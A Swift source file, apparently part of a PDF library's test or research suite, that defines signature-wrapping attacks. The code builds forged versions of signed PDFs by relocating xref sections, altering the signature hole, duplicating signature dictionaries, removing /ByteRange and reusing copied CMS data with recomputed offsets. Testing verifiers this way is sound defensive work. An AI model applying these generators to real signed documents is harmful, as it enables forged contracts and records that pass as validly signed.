// PDFAttack+wrapping.swift
internal import AntinPDF

// Signature wrapping: the covered bytes are all there, but the dictionary that names them, or the
// part behind the hole, is somewhere else.

extension PDFAttack {
    static let wrapping: [PDFAttack] = [
        PDFAttack("wrapping.movedTail", .wrapping, .structure) { victim in
            // Behind the hole: the attacker's section, exactly where startxref says; then the
            // second covered part, which only /ByteRange would still find.
            guard let end = victim.signature?.contentsRange.upperBound,
                victim.revision.startxref >= end, let content = try victim.content
            else { return nil }
            let head = Array(victim.bytes[..<end])
            let stream =
                "/X 1>>endobj\n\(content.number) 0 obj\n<</Length 2>>\nstream\nET\nendstream\nendobj\n"
            let gap = victim.revision.startxref - end - stream.utf8.count
            guard gap >= 0 else { return nil }
            let wrapper =
                stream + String(repeating: " ", count: gap)
                + "xref\n\(content.number) 1\n"
                + "\(PDFSpelling.offset(end + 13)) 00000 n \n"
                + "trailer\n<</Size \(victim.next)/Root \(victim.revision.root)"
                + "/Prev \(victim.document.revisions[0].startxref)>>\n"
                + "startxref\n\(victim.revision.startxref)\n%%EOF\n"
            return head + Array(wrapper.utf8) + victim.bytes[end...]
        },
        PDFAttack("wrapping.insertedBehindHole", .wrapping, .structure) { victim in
            guard let end = victim.signature?.contentsRange.upperBound else { return nil }
            return victim.replacing(end..<end, by: "/Reason(gia)")
        },
        PDFAttack("wrapping.insertedBeforeHole", .wrapping, .structure) { victim in
            guard let start = victim.signature?.contentsRange.lowerBound else { return nil }
            return victim.replacing(start..<start, by: "<00>/Z ")
        },
        PDFAttack("wrapping.widenedHole", .wrapping, .structure) { victim in
            guard let hole = victim.hole else { return nil }
            return victim.replacing(hole.upperBound..<hole.upperBound, by: "0000")
        },
        PDFAttack("wrapping.narrowedHole", .wrapping, .structure) { victim in
            guard let hole = victim.hole else { return nil }
            return victim.replacing(hole.upperBound - 4..<hole.upperBound, by: "")
        },
        update("wrapping.dictionaryAgain", .wrapping) { update, victim in
            // Byte for byte what was signed, in another place: the hole is not this one's.
            try update.setSignature(victim, [("Prop_Build", "<<>>")])
        },
        update("wrapping.dictionaryElsewhere", .wrapping) { update, victim in
            guard let reference = victim.signature?.dictionaryReference,
                let dictionary = try victim.document.object(reference).dictionary
            else { return false }
            update.add(victim.next, PDFSpelling.text(dictionary))
            return try update.setField(victim, [("V", "\(victim.next) 0 R")])
        },
        update("wrapping.secondField", .wrapping) { update, victim in
            // The copied signature of an incremental-saving attack: it covers the old bytes.
            guard let reference = victim.signature?.dictionaryReference,
                let dictionary = try victim.document.object(reference).dictionary
            else { return false }
            update.add(victim.next, PDFSpelling.text(dictionary))
            return try update.addField(
                victim.next + 1, victim,
                "/FT/Sig/T(Ban sao)/Rect[0 0 0 0]/V \(victim.next) 0 R")
        },
        update("wrapping.sharedDictionary", .wrapping) { update, victim in
            guard let reference = victim.signature?.dictionaryReference else { return false }
            return try update.addField(
                victim.next, victim, "/FT/Sig/T(Dung chung)/Rect[0 0 0 0]/V \(reference)")
        },
        update("wrapping.noRange", .wrapping, .structure) { update, victim in
            guard let reference = victim.signature?.dictionaryReference,
                let dictionary = try victim.document.object(reference).dictionary
            else { return false }
            update.add(victim.next, PDFSpelling.text(dictionary, removing: ["ByteRange"]))
            return try update.addField(
                victim.next + 1, victim, "/FT/Sig/T(Khong)/Rect[0 0 0 0]/V \(victim.next) 0 R")
        },
        PDFAttack("wrapping.ownRange", .wrapping, .mathematics) { victim in
            // A copied CMS in a dictionary that covers the forged file rightly.
            try CoveredUpdate(victim)?.bytes { update in
                guard let content = try victim.content else { return }
                update.add(content.number, "", stream: PDFUpdate.forgedContent)
            }
        },
        PDFAttack("wrapping.ownRangeNoChange", .wrapping, .mathematics) { victim in
            try CoveredUpdate(victim)?.bytes { _ in }
        },
    ]
}

/// One more signature field whose dictionary covers the whole new file with a copied CMS.
private struct CoveredUpdate {
    let victim: SignedVictim
    let dictionary: PDFDictionary
    let digits: String

    init?(_ victim: SignedVictim) throws {
        guard let reference = victim.signature?.dictionaryReference,
            let dictionary = try victim.document.object(reference).dictionary,
            let hole = victim.hole
        else { return nil }
        self.victim = victim
        self.dictionary = dictionary
        self.digits = String(decoding: victim.bytes[hole], as: UTF8.self)
    }

    func bytes(_ change: (inout PDFUpdate) throws -> Void) throws -> [UInt8]? {
        var update = PDFUpdate(self.victim)
        try change(&update)
        let next = self.victim.next
        guard
            try update.addField(
                next + 1, self.victim, "/FT/Sig/T(Chep)/Rect[0 0 0 0]/V \(next) 0 R")
        else { return nil }
        let rest = PDFSpelling.text(self.dictionary, removing: ["ByteRange", "Contents"])
        func written(_ numbers: [String]) -> [UInt8] {
            var copy = update
            copy.add(
                next,
                "\(rest.dropLast(2))/ByteRange [\(numbers.joined(separator: " "))]"
                    + "/Contents <\(self.digits)>>>")
            return copy.bytes
        }
        let slot = "0000000000"
        let draft = written(["0", slot, slot, slot])
        let hole = "<\(self.digits)>"
        guard let open = draft.last(hole, below: draft.count) else { return nil }
        let close = open + hole.utf8.count
        return written(
            ["0"] + [open, close, draft.count - close].map(PDFSpelling.offset))
    }
}
